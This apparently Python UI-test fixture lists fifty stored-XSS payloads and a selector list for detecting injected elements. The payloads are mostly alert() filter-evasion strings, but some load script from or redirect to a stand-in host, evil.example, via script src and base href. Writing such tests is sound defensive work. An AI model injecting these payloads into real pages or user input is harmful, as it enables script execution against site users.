"""Fifty stored-XSS payloads for the UI tests: each, if a page ever let it run, opens a
dialog or adds an element the tests look for. Sources: the classic filter-evasion lists
(tags, event handlers, ``javascript:`` URLs, markup breaking out of attributes, text areas,
titles and comments, Markdown that hides a link, template syntax)."""

from __future__ import annotations

from typing import Final

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "<svg/onload=alert(4)>",
    "<body onload=alert(5)>",
    "<iframe src=javascript:alert(6)></iframe>",
    '<iframe srcdoc="<script>alert(7)</script>"></iframe>',
    "<a href=javascript:alert(8)>click me</a>",
    "[click me](javascript:alert(9))",
    "![pic](javascript:alert(10))",
    '[docs/](https://evil.example/x "the deploy docs")',
    '"><script>alert(12)</script>',
    "'><img src=x onerror=alert(13)>",
    "</textarea><script>alert(14)</script>",
    "</title><script>alert(15)</script>",
    "</style><script>alert(16)</script>",
    '<!--<img src="--><img src=x onerror=alert(17)//">',
    '" onmouseover="alert(18)" x="',
    "' onfocus='alert(19)' autofocus='",
    "<details open ontoggle=alert(20)>",
    "<input autofocus onfocus=alert(21)>",
    "<select autofocus onfocus=alert(22)></select>",
    "<textarea autofocus onfocus=alert(23)></textarea>",
    "<video><source onerror=alert(24)></video>",
    "<audio src=x onerror=alert(25)>",
    "<object data=javascript:alert(26)></object>",
    "<embed src=javascript:alert(27)>",
    "<form action=javascript:alert(28)><button>go</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(29)">',
    "<base href=//evil.example/>",
    "<scr<script>ipt>alert(31)</scr</script>ipt>",
    "<<script>alert(32)//<</script>",
    "<svg><script>alert(33)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(34)>",
    '<a href="jav&#x09;ascript:alert(35)">tab</a>',
    '<a href="&#106;avascript:alert(36)">entity</a>',
    "<img src=x:alert(alt) onerror=eval(src) alt=37>",
    "<marquee onstart=alert(38)>news</marquee>",
    '<div style="background:url(javascript:alert(39))">bg</div>',
    '<link rel=stylesheet href="javascript:alert(40)">',
    "<script src=//evil.example/41.js></script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(42)>">',
    "<template><script>alert(43)</script></template>",
    "{{ 7*7 }} {% raw %}<script>alert(44)</script>{% endraw %}",
    "${alert(45)} `${alert(45)}`",
    "%3Cscript%3Ealert(46)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(47)\\u003c/script\\u003e",
    "<x onclick=alert(48)>click</x>",
    "<img src=x onerror=alert(49)//",
    "<style>@import 'javascript:alert(50)';</style>",
)
"""The payloads (50)."""

DANGEROUS_ELEMENTS: Final = (
    "main script, main img, main svg, main iframe, main object, main embed, main video, "
    "main audio, main math, main marquee, main details, main template, main noscript, "
    "main style, main link, main meta, main base, main x, main a[href^='javascript'], "
    "main form[action^='javascript'], main textarea[autofocus], main input[autofocus], "
    "main select[autofocus], main [onerror], main [onload], main [onclick], main [onfocus], "
    "main [onmouseover], main [ontoggle], main [onstart], main [style], head base"
)
"""Elements a payload would have made had it been parsed as markup (the UI's own pages have
none of these inside ``main``)."""

assert len(PAYLOADS) == 50
